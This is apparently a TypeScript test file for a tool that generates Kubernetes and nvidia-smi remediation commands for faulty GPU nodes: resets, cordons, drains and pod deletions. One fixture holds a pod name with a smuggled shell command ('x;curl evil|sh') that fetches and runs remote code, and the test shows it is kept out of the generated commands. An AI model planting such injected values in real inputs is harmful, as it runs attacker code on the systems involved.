import { expect, test } from 'vitest';
import { ACTIONS } from '../../src/contract/finding.ts';
import { nextAction } from '../../src/tools/support/next-action.ts';
import { finding } from '../fakes/finding.ts';

const ALONE = { blockers: [], mig: false } as const;
const AT = { verdict: 'critical', node: 'gpu-7', reset: ALONE } as const;

test('a reset names the GPU, who uses it, and where the command runs', () => {
  expect(nextAction(finding({ gpu: { index: 3 } }), AT)).toEqual({
    action: 'reset_gpu',
    advice: 'Do it.',
    commands: [
      'kubectl cordon gpu-7',
      'kubectl gpu-mcp call gpu-7 get_gpu_processes',
      'nvidia-smi --gpu-reset -i 3  # on the node, as root, nothing may use it',
    ],
    steps: [
      { on: 'cluster', command: 'kubectl cordon gpu-7' },
      { on: 'cluster', command: 'kubectl gpu-mcp call gpu-7 get_gpu_processes' },
      { on: 'node', command: 'nvidia-smi --gpu-reset -i 3', note: 'nothing may use it' },
    ],
  });
});

test('a GPU without an index is named by its address; all are reset where they must or nothing names one', () => {
  const last = (gpu: object, all?: string) =>
    nextAction(finding({ gpu }), {
      ...AT,
      reset: { ...ALONE, ...(all === undefined ? {} : { all }) },
    }).commands.at(-1);
  expect(last({ pci: '0000:3b:00' })).toBe(
    'nvidia-smi --gpu-reset -i 0000:3b:00.0  # on the node, as root, nothing may use it',
  );
  expect(last({ index: 3 }, 'Fabric Manager does not run')).toBe(
    'nvidia-smi --gpu-reset  # on the node, as root, resets all GPUs (Fabric Manager does not run), nothing may use them',
  );
  expect(last({ uuid: 'GPU-1' })).toBe(
    'nvidia-smi --gpu-reset  # on the node, as root, resets all GPUs, nothing may use them',
  );
});

test('before a reset its pods end, and no others, and then what else holds the GPU, each by name', () => {
  const hits = {
    pods: [
      { namespace: 'team-a', pod: 'train-0' },
      { podUid: 'f6a1e4a0-3b1c-4a52-9f6e-0d8f2d3c7b11' },
      { namespace: 'team-b', pod: 'x;curl evil|sh' },
    ],
    processes: [],
    more: 0,
    notRead: [],
  };
  const { commands } = nextAction(finding({ gpu: { index: 3 }, hits, otherwise: 'reboot' }), {
    ...AT,
    reset: {
      blockers: ['operands', 'hostengine', 'mps', 'display', 'persistence'],
      mig: true,
    },
  });
  expect(commands).toEqual([
    'kubectl cordon gpu-7',
    'kubectl gpu-mcp call gpu-7 get_gpu_processes',
    'kubectl delete pod -n team-a train-0',
    'kubectl label node gpu-7 --overwrite nvidia.com/gpu.deploy.device-plugin=false nvidia.com/gpu.deploy.dcgm-exporter=false nvidia.com/gpu.deploy.dcgm=false nvidia.com/gpu.deploy.gpu-feature-discovery=false  # they hold every GPU; true again after the reset (without the GPU Operator: end their pods)',
    'systemctl stop nvidia-dcgm  # on the node, as root, DCGM holds every GPU',
    'echo quit | nvidia-cuda-mps-control  # on the node, as root, MPS holds its GPUs',
    'systemctl isolate multi-user.target  # on the node, as root, a display holds its GPU',
    'nvidia-smi -i 3 -pm 0  # on the node, as root, nvidia-persistenced holds it; -pm 1 afterwards',
    'nvidia-smi --gpu-reset -i 3  # on the node, as root, nothing may use it; its MIG instances must be made again (MIG Manager, nvidia-mig-parted)',
  ]);
});

test('the evidence is kept before the reboot takes it away', () => {
  expect(nextAction(finding({ action: 'reboot_node' }), AT).commands).toEqual([
    'kubectl gpu-mcp capture gpu-7 -f before.json.gz',
    'kubectl drain gpu-7 --ignore-daemonsets --delete-emptydir-data  # evicts every pod of the node and deletes their emptyDir data',
    'systemctl reboot  # on the node, as root',
  ]);
});

test('without a cluster there is nothing to type into kubectl', () => {
  for (const action of ACTIONS) {
    const { commands } = nextAction(finding({ action }), { ...AT, node: undefined });
    expect(commands.filter(command => command.startsWith('kubectl'))).toEqual([]);
  }
});

test('a healthy node asks for nothing; one that was not read whole for another look', () => {
  const info = finding({ severity: 'info' });
  expect(nextAction(info, { ...AT, verdict: 'healthy' })).toMatchObject({
    action: 'none',
    commands: [],
    steps: [],
  });
  expect(nextAction(undefined, { ...AT, verdict: 'unknown' })).toMatchObject({
    action: 'watch',
    commands: [],
    steps: [],
  });
});

test('to start a program anew its pods are deleted by name; without a name there is who holds the GPUs', () => {
  const hits = { pods: [{ namespace: 'ml', pod: 'train-0' }], processes: [], more: 0, notRead: [] };
  const restart = finding({ action: 'restart_app', hits });
  expect(nextAction(restart, AT).commands).toEqual(['kubectl delete pod -n ml train-0']);
  const unnamed = finding({ action: 'restart_app' });
  expect(nextAction(unnamed, AT).commands).toEqual([
    'kubectl gpu-mcp call gpu-7 get_gpu_processes',
  ]);
});
